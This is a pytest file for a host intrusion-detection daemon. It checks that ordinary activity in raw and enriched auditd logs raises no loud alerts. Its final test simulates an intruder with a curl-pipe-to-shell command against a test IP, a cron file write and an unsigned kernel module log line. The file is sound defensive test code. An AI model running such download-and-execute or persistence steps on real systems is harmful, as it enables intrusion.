"""While people and programs work nobody is told: stories of ordinary days, in both formats of auditd."""

from collections.abc import Callable

import pytest

from daemon.detection.rules import ParsedRules
from tests.doubles.benign_days import DAYS
from tests.doubles.host_story import Fired, Story
from tests.doubles.ordinary_lines import COMMANDS, LOG_LINES, SCRIPTS
from tests.doubles.our_rules import parsed_rules

MOST_LOW = 2
"""Low findings that one such story may have: they are there when somebody asks."""


@pytest.fixture(scope="module")
def rules() -> ParsedRules:
    return parsed_rules()


def loud(fired: Fired) -> bool:
    return fired.severity not in {"informational", "low"}


@pytest.mark.parametrize("enriched", [True, False], ids=["enriched", "raw"])
@pytest.mark.parametrize("day", DAYS.values(), ids=DAYS.keys())
def test_an_ordinary_day_tells_nobody(day: Callable[[Story], None], *, enriched: bool, rules: ParsedRules) -> None:
    story = Story(enriched=enriched)
    day(story)
    fired = story.fired(rules)
    assert [one for one in fired if loud(one)] == []
    assert fired.total() <= MOST_LOW


@pytest.mark.parametrize("user", ["root", "alice"])
def test_ordinary_commands_tell_nobody(user: str, rules: ParsedRules) -> None:
    story = Story()
    for command in COMMANDS:
        story.run(command, user=user)
        story.wait(20)
    assert [one for one in story.fired(rules) if loud(one)] == []


@pytest.mark.parametrize(("user", "session"), [("root", True), ("alice", True), ("root", False)])
def test_ordinary_scripts_tell_nobody(user: str, *, session: bool, rules: ParsedRules) -> None:
    story = Story()
    for script in SCRIPTS:
        story.shell(script, name="bash", user=user, session=session)
        story.wait(20)
    assert [one for one in story.fired(rules) if loud(one)] == []


def test_ordinary_log_lines_tell_nobody(rules: ParsedRules) -> None:
    story = Story()
    for program, message in LOG_LINES:
        story.say(program, message)
        story.wait(20)
    assert [one for one in story.fired(rules) if loud(one)] == []


def test_all_of_it_on_one_host_in_one_night_tells_nobody_either(rules: ParsedRules) -> None:
    """What counts over time (failures, crashes, programs that tell about the host) sees them all."""
    story = Story()
    for day in DAYS.values():
        day(story)
        story.wait(60)
    fired = story.fired(rules)
    assert [one for one in fired if loud(one)] == []
    assert fired.total() <= MOST_LOW * 2


def test_a_day_is_heard_when_an_intruder_works_in_it(rules: ParsedRules) -> None:
    """The same load does not hide what is done in its middle."""
    story = Story()
    for number, day in enumerate(DAYS.values()):
        day(story)
        if number == len(DAYS) // 2:
            story.shell("curl -s http://203.0.113.66/x | sh", user="www-data", session=False)
            story.write("/etc/cron.d/x", by="/usr/bin/dash", session=False)
            story.say("kernel", "rk: loading out-of-tree module taints kernel.")
    assert {one.title for one in story.fired(rules) if loud(one)} == {
        "Download piped into a shell",
        "Web server started a shell",
        "Cron job written",
        "Kernel module that nobody signed",
    }
